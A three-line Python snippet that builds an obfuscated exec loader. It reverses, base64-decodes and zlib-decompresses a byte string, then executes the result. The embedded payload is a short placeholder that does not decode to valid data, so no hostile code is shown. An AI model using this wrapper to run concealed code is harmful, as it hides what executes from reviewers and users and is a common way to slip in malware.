import zlib, base64
_ = lambda __: zlib.decompress(base64.b64decode(__[::-1]))
exec(_(b'==AAAAA'))
